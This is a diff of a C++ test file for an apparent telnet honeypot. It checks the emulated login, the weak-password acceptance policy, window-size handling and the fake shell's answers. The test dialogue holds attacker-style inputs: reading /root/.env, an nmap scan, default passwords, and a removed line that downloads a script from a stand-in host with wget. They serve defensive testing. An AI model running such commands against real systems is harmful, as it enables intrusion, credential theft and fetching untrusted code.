@@ -2,8 +2,8 @@
 // terminal questions, then nothing until the client answers), the negotiation and the
 // decky's issue.net banner, the login (persona password and hostname, every attempt
 // captured, three failures end it), the decky's motd, the line editor (echo, silent
-// password, backspace, IAC stripping, bounded lines and subnegotiations) and the shell's
-// commands, answered from the decky's world (its files and host facts).
+// password, backspace, IAC stripping, bounded lines and subnegotiations) and the shared
+// shell's commands, answered from the decky's world (its files and host facts).
 #include <gtest/gtest.h>
 
 #include <ctime>
@@ -149,7 +149,7 @@ TEST(TelnetDialogue, PersonaPasswordAndHostname) {
     open(d, "nas01");
     ASSERT_TRUE(d.send("root\r\n"));
     d.read_until("Password: ");
-    ASSERT_TRUE(d.send("admin\r\n"));  // the catalogue default no longer works
+    ASSERT_TRUE(d.send("hunter2\r\n"));  // not the persona's, nor a default weak one
     EXPECT_EQ(d.read_until("login: "), "\r\nLogin incorrect\r\nnas01 login: ");
     ASSERT_TRUE(d.send("root\r\n"));
     d.read_until("Password: ");
@@ -162,6 +162,33 @@ TEST(TelnetDialogue, PersonaPasswordAndHostname) {
     for (const auto& e : events)
         if (e.event_type == "auth") statuses.push_back(field(e, "status"));
     EXPECT_EQ(statuses, (std::vector<std::string>{"failed", "success"}));
+}
+
+TEST(TelnetDialogue, TheAcceptPolicyDecidesWhoGetsIn) {
+    // accept = never: even the persona's password is refused.
+    auto d = telnet({{"accept", "never"}});
+    open(d);
+    ASSERT_TRUE(d.send("root\r\n"));
+    d.read_until("Password: ");
+    ASSERT_TRUE(d.send("admin\r\n"));
+    EXPECT_EQ(d.read_until("login: "), "\r\nLogin incorrect\r\nweb-prod-03 login: ");
+    // A weak root password of the default list gets in.
+    auto weak = telnet();
+    open(weak);
+    ASSERT_TRUE(weak.send("root\r\n123456\r\n"));
+    weak.read_until("root@web-prod-03:~# ");
+    ASSERT_TRUE(weak.send("echo $USER\r\n"));
+    EXPECT_EQ(weak.read_until("# "), "echo $USER\r\nroot\r\nroot@web-prod-03:~# ");
+}
+
+TEST(TelnetDialogue, TheWindowSizeShapesLsColumns) {
+    auto d = telnet();
+    log_in(d);
+    // NAWS: 40 columns, 24 rows.
+    ASSERT_TRUE(d.send("\xff\xfa\x1f\x00\x28\x00\x18\xff\xf0ls /srv/ftp\r\n"s));
+    EXPECT_EQ(d.read_until("# "),
+              "ls /srv/ftp\r\nbackup.tar.gz  credentials.txt\r\nconfig.ini     "
+              "db_dump.sql\r\nroot@web-prod-03:~# ");
 }
 
 TEST(TelnetDialogue, ThreeFailuresEndTheSessionAndEachIsCaptured) {
@@ -257,8 +284,7 @@ TEST(TelnetDialogue, RefusesOptionsItDidNotOfferAndStripsIac) {
     d.read_until("# ");
     // An escaped 0xFF is data (echoed as typed).
     ASSERT_TRUE(d.send("echo \xff\xff\r\n"s));
-    EXPECT_EQ(d.read_until("# "),
-              "echo \xff\r\n-bash: echo: command not found\r\nroot@web-prod-03:~# "s);
+    EXPECT_EQ(d.read_until("# "), "echo \xff\r\n\xff\r\nroot@web-prod-03:~# "s);
     const auto events = d.finish();
     EXPECT_EQ(field(decnet::testing::first_event(events, "auth"), "username"), "root");
     EXPECT_EQ(field(decnet::testing::first_event(events, "command"), "cmd"), "echo \xff"s);
@@ -323,8 +349,10 @@ TEST(TelnetDialogue, ShellCommandsAreCapturedAndAnsweredFromTheWorld) {
     const std::string home = "root@web-prod-03:~# ";
     const std::string ftp = "root@web-prod-03:/srv/ftp# ";
     const std::vector<std::pair<std::string, std::string>> dialogue = {
+        // Ubuntu's coreutils name the processor and platform too.
         {"uname -a", "Linux web-prod-03 " + host.kernel_release + " " + host.kernel_version + " " +
-                         host.machine + " " + host.os_name + "\r\n" + home},
+                         host.machine + " " + host.machine + " " + host.machine + " " +
+                         host.os_name + "\r\n" + home},
         {"uname -r", host.kernel_release + "\r\n" + home},
         {"cat /root/.env", env_crlf + home},
         {"cat /nope", "cat: /nope: No such file or directory\r\n" + home},
@@ -336,7 +364,7 @@ TEST(TelnetDialogue, ShellCommandsAreCapturedAndAnsweredFromTheWorld) {
         // bash names the directory cd was given: `~` already expanded.
         {"cd ~/nope", "-bash: cd: /root/nope: No such file or directory\r\n" + ftp},
         {"cd", home},
-        {"wget http://198.51.100.9/x.sh", "-bash: wget: command not found\r\n" + home},
+        {"nmap -sS 10.0.0.0/24", "-bash: nmap: command not found\r\n" + home},
     };
     for (const auto& [cmd, answer] : dialogue) {
         ASSERT_TRUE(d.send(cmd + "\r\n"));
